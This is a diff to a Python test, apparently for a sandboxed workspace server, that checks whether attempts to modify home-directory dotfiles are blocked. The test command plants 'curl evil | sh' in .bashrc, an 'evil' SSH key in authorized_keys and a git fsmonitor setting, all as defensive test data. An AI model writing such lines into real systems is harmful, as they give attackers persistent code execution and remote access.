@@ -131,12 +131,14 @@ async def test_missing_bashrc_in_a_home_directory_workspace(server: RpcClient, f
         return
     result = await server.run(opened["sessionId"], (
         "echo 'curl evil | sh' >> .bashrc && echo PLANTED; echo x >> .profile && echo PROFILE; "
-        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo TASKS; true"))
+        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo TASKS; "
+        "mkdir -p .ssh && echo 'ssh-ed25519 AAAA evil' >> .ssh/authorized_keys && echo KEYS; "
+        "mkdir -p .config/git && echo '[core] fsmonitor=evil' > .config/git/config && echo GITCONFIG; true"))
     await server.call("session/close", {"sessionId": opened["sessionId"]})
-    assert "PLANTED" not in result["stdout"] and "PROFILE" not in result["stdout"]
-    assert "TASKS" not in result["stdout"]
+    assert not {"PLANTED", "PROFILE", "TASKS", "KEYS", "GITCONFIG"} & set(result["stdout"].split())
     assert not (fake_home / ".bashrc").exists() and not (fake_home / ".profile").exists()
-    assert not (fake_home / ".vscode").exists()
+    assert not (fake_home / ".vscode").exists() and not (fake_home / ".ssh" / "authorized_keys").exists()
+    assert not (fake_home / ".config").exists()
 
 
 async def test_symlink_swap_of_a_protected_path(server: RpcClient, scratch: Path, owner, backend: str):
